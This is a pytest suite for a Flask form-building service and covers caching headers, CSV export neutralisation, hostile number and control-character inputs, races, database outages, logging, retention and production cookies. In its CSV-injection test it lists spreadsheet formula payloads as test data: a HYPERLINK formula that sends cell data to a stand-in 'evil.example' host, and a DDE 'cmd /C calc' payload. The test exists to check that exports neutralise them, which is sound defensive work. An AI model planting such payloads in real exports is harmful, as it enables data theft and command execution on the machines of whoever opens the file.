"""The security and reliability review's findings: caching, CSV injection, hostile numbers,
control characters, races, database outages, logs and retention of removed services."""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import shutil
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select, update
from sqlalchemy.exc import OperationalError
from sqlalchemy.orm import Session
from werkzeug.datastructures import MultiDict

from service_builder.database import SchemaBehind
from service_builder.exports import neutralise, to_csv, to_json
from service_builder.lint import lint
from service_builder.logs import HANDLER_NAME, JsonFormatter
from service_builder.models import AuditEvent, Draft, Submission, db, utcnow
from service_builder.retention import purge
from service_builder.staff.accounts import save_user
from tests.conftest import DATABASE_URL, empty_database, make_app
from tests.web.discount import SERVICE, answer_about_you, answer_to_about_you
from tests.web.test_staff import find

PASSWORD = "correct horse battery"
NUMBERS = """
id: numbers
title: Numbers
pages:
  - id: count
    questions:
      - id: count
        type: number
        label: How many?
  - id: name
    questions:
      - id: name
        type: text
        label: What is your name?
"""


def _finish_discount(client: FlaskClient) -> None:
    answer_to_about_you(client)
    answer_about_you(client)


def _staff_client(app: Flask, role: str = "admin") -> FlaskClient:
    with app.app_context():
        save_user(f"{role}@example.com", PASSWORD, role)
    client = app.test_client()
    client.post("/staff/sign-in", data={"email": f"{role}@example.com", "password": PASSWORD})
    return client


# -- caching ----------------------------------------------------------------------------------
def test_pages_with_personal_data_are_never_stored_by_caches(
    app: Flask, client: FlaskClient
) -> None:
    _finish_discount(client)
    check = client.get(f"/{SERVICE}/check-answers")
    assert check.status_code == 200 and check.headers["Cache-Control"] == "no-store"
    client.post(f"/{SERVICE}/check-answers")
    confirmation = client.get(f"/{SERVICE}/confirmation")
    assert confirmation.status_code == 200
    assert confirmation.headers["Cache-Control"] == "no-store"
    staff = _staff_client(app)
    for url in ("/staff/", "/admin/", f"/admin/services/{SERVICE}"):
        response = staff.get(url)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
    sign_in = app.test_client().get("/staff/sign-in")  # signed in, it sends you on
    assert sign_in.status_code == 200 and sign_in.headers["Cache-Control"] == "no-store"
    assert client.get("/nowhere").headers["Cache-Control"] == "no-store"  # errors too


def test_assets_are_cached_and_carry_hsts_in_production(tmp_path: Path) -> None:
    app = _production_app(tmp_path)
    client = app.test_client()
    asset = client.get("/assets/brand/favicon.svg")
    assert asset.status_code == 200
    assert "no-store" not in asset.headers.get("Cache-Control", "")
    assert asset.headers["Strict-Transport-Security"].startswith("max-age=31536000")
    assert asset.headers["X-Content-Type-Options"] == "nosniff"  # an operator's trial
    policy = asset.headers["Content-Security-Policy"]  # an SVG opened on its own runs nothing
    assert "default-src 'none'" in policy and "sandbox" in policy
    page = client.get("/", base_url="https://localhost")
    assert page.headers["Cache-Control"] == "no-store"
    assert "Strict-Transport-Security" in page.headers
    development = make_app().test_client().get("/assets/brand/favicon.svg")
    assert "Strict-Transport-Security" not in development.headers
    assert development.headers["X-Content-Type-Options"] == "nosniff"


# -- CSV injection ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("name", "exported"),
    [
        ('=HYPERLINK("http://evil.example/?d="&A2,"Click")', "'=HYPERLINK("),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM"),
        ("Pat Caller", "Pat Caller"),
        ("-12", "-12"),  # a plain negative number is not a formula
    ],
)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    app: Flask, client: FlaskClient, name: str, exported: str
) -> None:
    answer_to_about_you(client)
    answer_about_you(client, full_name=name)
    assert client.post(f"/{SERVICE}/check-answers").status_code == 302
    with app.app_context():
        service = app.extensions["service_builder"].catalog.get(SERVICE)
        submissions = list(db.session.scalars(select(Submission)))
        text = to_csv(service, submissions)
        records = json.loads(to_json(submissions))
    header, row = (line.split(",") for line in text.splitlines()[:2])
    cell = row[header.index("full_name")].strip('"')
    assert cell.startswith(exported)
    assert records[0]["answers"]["full_name"] == name.strip()  # JSON is unchanged


@pytest.mark.parametrize("cell", ["\tcmd", "\rcmd", "=1", "+1", "-a", "@a"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


# -- hostile numbers --------------------------------------------------------------------------
@pytest.fixture
def numbers(tmp_path: Path) -> FlaskClient:
    folder = tmp_path / "definitions"
    folder.mkdir()
    (folder / "numbers.yaml").write_text(NUMBERS, encoding="utf-8")
    return make_app(folder).test_client()


@pytest.mark.parametrize("value", ["1e1000000", "1e5000", "9" * 41, "1e3", "NaN", "Infinity"])
def test_hostile_numbers_get_a_normal_error_at_once(numbers: FlaskClient, value: str) -> None:
    numbers.post("/numbers/count", data={"count": "x"})  # templates compiled, caches warm
    started = time.process_time()  # CPU spent, not time waited for a busy machine's CPU
    response = numbers.post("/numbers/count", data={"count": value})
    assert time.process_time() - started < 0.5  # it held a worker for 22 s
    assert response.status_code == 400
    assert "The answer to ‘How many?’ must be a number" in response.get_data(as_text=True)


def test_numbers_without_max_have_a_ceiling(numbers: FlaskClient) -> None:
    too_big = numbers.post("/numbers/count", data={"count": "1000000000000000"})
    assert too_big.status_code == 400
    assert "must be 999,999,999,999,999 or less" in too_big.get_data(as_text=True)
    too_small = numbers.post("/numbers/count", data={"count": "-1000000000000000"})
    assert "must be -999,999,999,999,999 or more" in too_small.get_data(as_text=True)
    assert numbers.post("/numbers/count", data={"count": "999,999,999,999,999"}).status_code == 302


def test_lint_warns_about_a_number_without_max(numbers: FlaskClient) -> None:
    app = numbers.application
    service = app.extensions["service_builder"].catalog.get("numbers")
    warnings = [w for w in lint(service) if "without `max`" in w.message]
    assert [w.where for w in warnings] == ["pages[0].questions[0]"]


# -- control characters -----------------------------------------------------------------------
@pytest.mark.parametrize("character", ["\x00", "\x01", "\x1b", "\x7f"])
def test_control_characters_anywhere_get_a_400(
    app: Flask, client: FlaskClient, character: str
) -> None:
    email = f"agent{character}@example.com"
    assert client.post("/staff/sign-in", data={"email": email, "password": "x"}).status_code == 400
    staff = _staff_client(app, "agent")
    assert find(staff, f"CTD{character}1").status_code == 400
    assert staff.get(f"/staff/drafts/DR{character}1").status_code == 400
    answer = client.post(f"/{SERVICE}/account-number", data={"account_number": f"5{character}"})
    assert answer.status_code == 400
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Draft)) == 0


NAMELESS = b"--XyZ\r\nContent-Disposition: form-data\r\n\r\nabc\r\n--XyZ--\r\n"
"""A multipart body whose one part has no name."""


@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("POST", "/staff/sign-in"),
        ("POST", f"/{SERVICE}/account-number"),
        ("POST", "/status"),
        ("GET", "/"),
        ("GET", "/healthz"),
    ],
)
def test_a_form_part_without_a_name_gets_a_400(client: FlaskClient, method: str, url: str) -> None:
    response = client.open(
        url, method=method, data=NAMELESS, content_type="multipart/form-data; boundary=XyZ"
    )
    assert response.status_code == 400


def test_tabs_and_new_lines_are_still_allowed(client: FlaskClient) -> None:
    answer_to_about_you(client)
    assert answer_about_you(client, full_name="Pat\tCaller\r\n").status_code == 302


@pytest.mark.parametrize("pasted", ["\x0b", "\x0c"])
def test_a_word_processors_line_break_is_read_as_a_new_line(
    app: Flask, client: FlaskClient, pasted: str
) -> None:
    """Word's Shift+Enter pastes a vertical tab: the answer is kept, not the page refused."""
    answer_to_about_you(client)
    assert answer_about_you(client, full_name=f"Pat{pasted}Caller").status_code == 302
    twice = MultiDict([("other_adults", "no"), ("other_adults", f"x{pasted}y")])
    assert client.post(f"/{SERVICE}/other-adults", data=twice).status_code == 302  # any value
    with app.app_context():
        assert db.session.scalars(select(Draft.data)).one()["answers"]["full_name"] == "Pat\nCaller"


# -- HEAD ---------------------------------------------------------------------------------------
def test_a_head_request_is_answered_as_a_get_without_a_body_and_changes_nothing(
    app: Flask, client: FlaskClient
) -> None:
    """Views that show on GET and save on anything else must never take a HEAD for a POST:
    no CSRF check or POST rate limit looks at HEAD."""
    answer_to_about_you(client)
    with app.app_context():
        before = db.session.scalars(select(Draft.data)).one()
    page = f"/{SERVICE}/account-number"
    for body in ({}, {"account_number": "87654321"}):
        head = client.head(page, data=body)
        get = client.get(page)
        assert (head.status_code, head.data) == (200, b"") and get.status_code == 200
        assert head.headers["Content-Type"] == get.headers["Content-Type"]
    found = client.head("/status?reference=CTD-AAAA-AAAA&email_or_postcode=a@example.com")
    assert found.status_code == 200  # the form, as a GET shows it: no lookup
    with app.app_context():
        assert db.session.scalars(select(Draft.data)).one() == before
    assert client.head("/healthz").status_code == 200


# -- races ------------------------------------------------------------------------------------
@pytest.fixture
def shared_app(tmp_path: Path) -> Any:
    """An app on a database that several threads really share (a file, or PostgreSQL)."""
    url = DATABASE_URL if DATABASE_URL.startswith("postgresql") else f"sqlite:///{tmp_path}/a.db"
    # the races send 18 forms (6 at once, 3 times) from one address: more than one person's limit
    app = make_app(SQLALCHEMY_DATABASE_URI=url, SUBMIT_RATE_LIMIT="1000 per minute")
    empty_database(app)
    yield app
    empty_database(app)


def _together(count: int, request: Callable[[int], int]) -> list[int]:
    """Run `count` requests at the same moment; their status codes."""
    barrier = threading.Barrier(count)
    statuses: list[int] = [0] * count

    def run(index: int) -> None:
        barrier.wait()
        statuses[index] = request(index)

    threads = [threading.Thread(target=run, args=(i,)) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return statuses


def _clone(app: Flask, client: FlaskClient) -> FlaskClient:
    cookie = client.get_cookie("session")
    assert cookie is not None
    twin = app.test_client()
    twin.set_cookie("session", cookie.value)
    return twin


def test_concurrent_double_submits_store_one_and_all_see_the_confirmation(
    shared_app: Flask,
) -> None:
    for _round in range(3):
        client = shared_app.test_client()
        _finish_discount(client)
        clients = [_clone(shared_app, client) for _ in range(6)]
        url = f"/{SERVICE}/check-answers"
        statuses = _together(6, lambda i, c=clients, u=url: c[i].post(u).status_code)
        assert statuses == [302] * 6
        for each in clients:
            assert each.get(f"/{SERVICE}/confirmation").status_code == 200
    with shared_app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Submission)) == 3


def test_concurrent_sends_by_an_agent_store_one_form_and_audit_it_once(
    shared_app: Flask,
) -> None:
    agent = _staff_client(shared_app, "agent")
    start = agent.post(f"/staff/{SERVICE}/", data={"contact_channel": "phone"})
    assert start.status_code == 302
    answer_to_about_you(agent, "/staff")
    answer_about_you(agent, "/staff", email="pat@example.com")
    agent.post(f"/staff/{SERVICE}/security", data={"security_passed": "passed"})
    clients = [_clone(shared_app, agent) for _ in range(6)]
    url, agreed = f"/staff/{SERVICE}/check-answers", {"declaration_agreed": "yes"}
    statuses = _together(6, lambda i: clients[i].post(url, data=agreed).status_code)
    assert statuses == [302] * 6
    with shared_app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Submission)) == 1
        sent = select(func.count()).where(AuditEvent.action == "submitted")
        assert db.session.scalar(sent) == 1


def test_concurrent_saves_to_one_draft_never_fail(shared_app: Flask) -> None:
    client = shared_app.test_client()
    answer_to_about_you(client)
    clients = [_clone(shared_app, client) for _ in range(6)]
    names = [f"Name {i}" for i in range(6)]

    def save(i: int) -> int:
        return answer_about_you(clients[i], full_name=names[i]).status_code

    statuses = _together(6, save)
    assert all(status in (302, 303) for status in statuses), statuses
    with shared_app.app_context():
        draft = db.session.scalars(select(Draft)).one()
        assert draft.data["answers"]["full_name"] in names
        assert draft.data["answers"]["account_number"] == "51234567"


# -- database outages -------------------------------------------------------------------------
def test_a_database_outage_is_a_503_that_does_not_claim_answers_were_saved(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    folder = tmp_path / "db"
    folder.mkdir()
    app = make_app(SQLALCHEMY_DATABASE_URI=f"sqlite:///{folder}/a.db")
    client = app.test_client()
    answer_to_about_you(client)
    with app.app_context():
        db.engine.dispose()
    shutil.rmtree(folder)
    (folder / "a.db").mkdir(parents=True)  # the database can no longer be opened
    response = answer_about_you(client)
    page = response.get_data(as_text=True)
    assert response.status_code == 503
    assert "may not have been saved" in page and "answers have been saved" not in page
    errors_log = logging.getLogger("service_builder.web.errors")
    errors_log.addHandler(caplog.handler)  # whatever other tests did to the root's handlers
    try:
        with caplog.at_level("ERROR", logger=errors_log.name):
            shown = client.get("/council-tax-single-person-discount/about-you")
    finally:
        errors_log.removeHandler(caplog.handler)
    assert shown.status_code == 503
    page = shown.get_data(as_text=True)
    assert "Try again in a few minutes" in page and "saved" not in page  # nothing was sent
    assert "database unavailable: OperationalError (unable to open database file)" in caplog.text
    health = client.get("/healthz")
    assert health.status_code == 503
    assert health.get_json() == {"status": "unavailable", "database": "unreachable"}


def test_a_connection_lost_as_a_request_ends_keeps_the_response(
    app: Flask, client: FlaskClient, caplog: pytest.LogCaptureFixture, monkeypatch: Any
) -> None:
    """PostgreSQL killed the connection after the view's work: the rollback on close fails.
    The person still gets what the view made (not gunicorn's bare 500), and the next request
    a working session."""
    answer_to_about_you(client)
    close = Session.close
    failures = []

    def close_once(session: Session) -> None:
        if not failures:
            failures.append(1)
            raise OperationalError("ROLLBACK", {}, Exception("server closed the connection"))
        close(session)

    monkeypatch.setattr(Session, "close", close_once)
    errors_log = logging.getLogger("service_builder.web.errors")
    errors_log.addHandler(caplog.handler)
    try:
        with caplog.at_level("ERROR", logger=errors_log.name):
            saved = answer_about_you(client)
    finally:
        errors_log.removeHandler(caplog.handler)
    assert failures and saved.status_code == 302
    assert "database connection lost as a request ended (server closed the" in caplog.text
    assert client.get(saved.location).status_code == 200


# -- logs -------------------------------------------------------------------------------------
def test_sql_parameters_never_reach_errors_or_logs(app: Flask) -> None:
    with app.app_context():
        assert db.engine.hide_parameters is True


def test_json_log_lines_carry_the_request_id_and_tracebacks(app: Flask) -> None:
    formatter = JsonFormatter()
    with app.test_request_context("/"):
        from flask import g

        g.request_id = "abcdef0123456789"
        try:
            raise ValueError("boom")
        except ValueError:
            record = logging.getLogger("x").makeRecord(
                "x", logging.ERROR, __file__, 1, "failed", (), exc_info=__import__("sys").exc_info()
            )
        line = json.loads(formatter.format(record))
    assert line["request_id"] == "abcdef0123456789"
    assert line["message"] == "failed" and "ValueError: boom" in line["traceback"]


def test_production_logs_go_to_the_configured_file_as_json(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    log_file = tmp_path / "app.log"
    monkeypatch.setenv("SERVICE_BUILDER_LOG_FILE", str(log_file))
    root = logging.getLogger()
    before = list(root.handlers)
    for handler in before:
        if handler.get_name() == HANDLER_NAME:  # one an earlier development app installed
            root.removeHandler(handler)
    try:
        app = _production_app(tmp_path)
        client = app.test_client()
        response = client.post(
            f"/{SERVICE}/account-number",
            data={"account_number": "51234567"},
            base_url="https://localhost",
        )
        assert response.status_code == 302
        for handler in root.handlers:
            handler.flush()
        lines = [json.loads(line) for line in log_file.read_text().splitlines()]
    finally:
        for handler in list(root.handlers):
            if handler not in before:
                root.removeHandler(handler)
                handler.close()
        for handler in before:
            if handler not in root.handlers:
                root.addHandler(handler)
    access = [line for line in lines if line["logger"] == "service_builder.access"]
    assert access and access[-1]["route"] == "/<service_id>/<page_id>"
    assert access[-1]["request_id"] == response.headers["X-Request-Id"]
    assert "51234567" not in log_file.read_text()


# -- retention --------------------------------------------------------------------------------
def test_submissions_of_a_removed_service_are_kept_for_the_removed_service_period(
    app: Flask, client: FlaskClient
) -> None:
    _finish_discount(client)
    client.post(f"/{SERVICE}/check-answers")
    catalog = app.extensions["service_builder"].catalog
    with app.app_context():
        db.session.execute(update(Submission).values(service_id="a-removed-service"))
        db.session.execute(
            update(Submission).values(submitted_at=utcnow() - dt.timedelta(days=100))
        )
        db.session.commit()
        assert purge(catalog, app.config, removed_days=101).submissions == 0
        assert purge(catalog, app.config, removed_days=99).submissions == 1
        assert db.session.scalar(select(func.count()).select_from(Submission)) == 0


# -- production start-up ----------------------------------------------------------------------
def _production_app(tmp_path: Path, **config: Any) -> Flask:
    """A production app on a database migrated by `db upgrade` (it does not migrate itself)."""
    from click.testing import CliRunner

    from service_builder.cli import main

    url = f"sqlite:///{tmp_path}/production.db"
    result = CliRunner().invoke(main, ["db", "upgrade"], env={"DATABASE_URL": url})
    assert result.exit_code == 0, result.output
    root = logging.getLogger()
    before = list(root.handlers)
    app = make_app(
        SERVICE_BUILDER_ENV="production",
        SQLALCHEMY_DATABASE_URI=url,
        TESTING=False,
        WTF_CSRF_ENABLED=False,
        **config,
    )
    if not os.environ.get("SERVICE_BUILDER_LOG_FILE"):
        for handler in set(root.handlers) - set(before):
            root.removeHandler(handler)  # production logging, but not for the other tests
    return app


def test_production_does_not_migrate_at_start_up(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path}/empty.db"
    with pytest.raises(SchemaBehind, match="run: service-builder db upgrade"):
        make_app(SERVICE_BUILDER_ENV="production", SQLALCHEMY_DATABASE_URI=url)
    assert _production_app(tmp_path).test_client().get("/healthz").status_code == 200


def test_metrics_count_requests_and_submissions(app: Flask, client: FlaskClient) -> None:
    _finish_discount(client)
    client.post(f"/{SERVICE}/check-answers")
    text = client.get("/metrics").get_data(as_text=True)
    assert 'service_builder_requests_total{route="/<service_id>/<page_id>",status="302"}' in text
    assert "service_builder_request_seconds_bucket" in text
    assert f'service_builder_submissions_total{{channel="online",service="{SERVICE}"}}' in text


def test_metrics_in_production_need_the_operators_token(tmp_path: Path) -> None:
    from service_builder.metrics import register_gauge

    register_gauge("service_builder_test_depth", "A test gauge", lambda: 7)
    closed = _production_app(tmp_path).test_client()
    assert closed.get("/metrics", base_url="https://localhost").status_code == 404
    client = _production_app(tmp_path, METRICS_TOKEN="s3cret-token").test_client()
    https = {"base_url": "https://localhost"}
    assert client.get("/metrics", **https).status_code == 404
    wrong = client.get("/metrics", headers={"Authorization": "Bearer nope"}, **https)
    assert wrong.status_code == 404
    right = client.get("/metrics", headers={"Authorization": "Bearer s3cret-token"}, **https)
    assert right.status_code == 200
    assert "service_builder_test_depth 7.0" in right.get_data(as_text=True)
    lower = client.get("/metrics", headers={"Authorization": "bearer s3cret-token"}, **https)
    assert lower.status_code == 200  # the scheme's name is case-insensitive (RFC 9110)


def test_proxy_fix_trusts_the_configured_number_of_proxies(tmp_path: Path) -> None:
    from werkzeug.middleware.proxy_fix import ProxyFix

    trusting = _production_app(tmp_path, TRUSTED_PROXIES=2).wsgi_app
    assert isinstance(trusting, ProxyFix) and trusting.x_proto == 2 and trusting.x_for == 2
    assert not isinstance(_production_app(tmp_path).wsgi_app, ProxyFix)


def test_production_cookies_carry_the_prefixes_browsers_enforce(tmp_path: Path) -> None:
    app = _production_app(tmp_path)
    resident = app.test_client().get(f"/{SERVICE}/account-number", base_url="https://localhost")
    session_cookie = resident.headers["Set-Cookie"]
    assert session_cookie.startswith("__Host-session=")
    assert "Secure" in session_cookie and "Path=/;" in session_cookie
    assert "Domain" not in session_cookie
    signed_in = _staff_client(app).get("/staff/", base_url="https://localhost")
    assert signed_in.status_code == 200
    staff = app.test_client()
    staff.post(
        "/staff/sign-in",
        data={"email": "admin@example.com", "password": PASSWORD},
        base_url="https://localhost",
    )
    device = staff.get_cookie("__Secure-staff_device", path="/staff/sign-in")
    assert device is not None and device.secure
